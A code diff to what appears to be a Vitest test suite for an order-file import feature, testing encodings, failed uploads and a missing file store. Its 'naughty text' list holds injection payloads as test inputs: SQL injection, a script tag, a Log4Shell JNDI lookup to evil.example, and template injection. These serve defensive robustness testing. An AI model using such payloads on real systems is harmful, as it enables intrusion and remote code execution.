@@ -1,3 +1,4 @@
+import { rmSync } from 'node:fs'
 import { gzipSync } from 'node:zlib'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import writeWorkbook from 'write-excel-file/node'
@@ -6,8 +7,9 @@ import { createOrg } from '@/testing/test-org'
 import { getImportDetails, stageImport, uploadImport } from '.'
 
 let close: () => Promise<void>
+let files: string
 beforeAll(async () => {
-  ;({ close } = await useImportDatabase())
+  ;({ close, files } = await useImportDatabase())
 })
 afterAll(() => close())
 
@@ -36,7 +38,11 @@ const expected = [
 describe('the same orders', () => {
   test.each([
     ['plain', Buffer.from(plain), 'orders.csv'],
-    ['with a byte order mark and CRLF', Buffer.from(`\uFEFF${plain.replaceAll('\n', '\r\n')}`), 'o.csv'],
+    [
+      'with a byte order mark and CRLF',
+      Buffer.from(`\uFEFF${plain.replaceAll('\n', '\r\n')}`),
+      'o.csv',
+    ],
     ['gzipped, under a name that hides it', gzipSync(plain), 'orders.csv'],
     ['in UTF-16', Buffer.from(`\uFEFF${plain}`, 'utf16le'), 'orders.txt'],
     ['in windows-1252', Buffer.from(plain, 'latin1'), 'orders.csv'],
@@ -95,9 +101,9 @@ describe('a file that cannot be imported', () => {
     const job = await rehearsed(org, content)
     expect(job).toMatchObject({ status: 'failed', summary: undefined })
     expect(job.error).toMatch(reason)
-    expect(await org.rows('select file_key, finished_at is not null as is_over from imports')).toEqual([
-      { file_key: null, is_over: true },
-    ])
+    expect(
+      await org.rows('select file_key, finished_at is not null as is_over from imports'),
+    ).toEqual([{ file_key: null, is_over: true }])
     expect(await org.rows('select count(*) as n from import_lines')).toEqual([{ n: '0' }])
     expect(await org.rows('select count(*) as n from orders')).toEqual([{ n: '0' }])
   })
@@ -114,20 +120,22 @@ describe('a file that cannot be imported', () => {
       yield Buffer.from(plain)
       throw new Error('connection lost')
     }
-    await expect(
-      uploadImport(org.ctx, { name: 'orders.csv', content: broken() }),
-    ).rejects.toThrow('connection lost')
+    await expect(uploadImport(org.ctx, { name: 'orders.csv', content: broken() })).rejects.toThrow(
+      'connection lost',
+    )
     expect(await org.rows('select count(*) as n from imports')).toEqual([{ n: '0' }])
   })
 
   test('a file that vanished from the store is asked for again', async () => {
     const org = await createOrg()
     const importId = await upload(org, plain)
-    const { rmSync } = await import('node:fs')
-    rmSync(`${process.env['REGULARS_DATA_DIR']}/files`, { recursive: true })
+    rmSync(`${files}/files`, { recursive: true })
     await stageImport(org.ctx, { importId, inBackground: true })
     const job = await getImportDetails(org.ctx, importId)
-    expect(job).toMatchObject({ status: 'failed', error: expect.stringContaining('Upload it again') })
+    expect(job).toMatchObject({
+      status: 'failed',
+      error: expect.stringContaining('Upload it again'),
+    })
   })
 })
 
@@ -139,7 +147,7 @@ describe('naughty text', () => {
     '\\x00',
     "' OR 1=1 --",
     '<script>alert(1)</script>',
-    '${jndi:ldap://evil.example/a}',
+    '$' + '{jndi:ldap://evil.example/a}',
     '{{7*7}}',
     '田中さん 👩‍👩‍👧',
     '\u202Eevil',
@@ -170,7 +178,7 @@ describe('naughty text', () => {
           .join(','),
       ),
     )
-    const usualLine = fields.map((name) => quoted(name === 'Order' ? 'plain' : (usual[name] ?? '')))
+    const usualLine = fields.map((name) => quoted(name === 'Order' ? 'P-1' : (usual[name] ?? '')))
     const plainLines = Array.from({ length: 400 }, () => usualLine.join(','))
     const org = await createOrg()
     const job = await imported(org, [fields.join(','), ...plainLines, ...lines].join('\n'))
